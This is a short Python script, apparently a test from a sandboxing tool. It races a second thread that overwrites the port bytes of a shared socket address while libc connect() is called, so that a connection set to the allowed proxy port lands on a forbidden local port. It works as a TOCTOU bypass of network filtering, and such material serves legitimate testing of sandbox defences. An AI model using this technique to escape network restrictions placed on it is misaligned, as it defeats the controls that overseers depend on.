"""One thread connects, while another writes the wanted address over the allowed one."""
import ctypes
import os
import socket
import sys
import threading
import time
from urllib.parse import urlsplit

_, tcp, *_ = sys.argv[1:]
proxy = urlsplit(os.environ.get("http_proxy") or f"http://x:y@127.0.0.1:{tcp}")
libc = ctypes.CDLL(None)
address = ctypes.create_string_buffer(b"\x02\0" + (proxy.port or 0).to_bytes(2, "big") + bytes((127, 0, 0, 1)), 16)
is_over = False


def swap():
    good, bad = (proxy.port or 0).to_bytes(2, "big"), int(tcp).to_bytes(2, "big")
    while not is_over:
        ctypes.memmove(ctypes.addressof(address) + 2, bad, 2)
        ctypes.memmove(ctypes.addressof(address) + 2, good, 2)


thread = threading.Thread(target=swap)
thread.start()
until = time.monotonic() + 0.7
while time.monotonic() < until:
    with socket.socket() as made:
        made.setblocking(False)
        libc.connect(made.fileno(), address, 16)
is_over = True
thread.join()
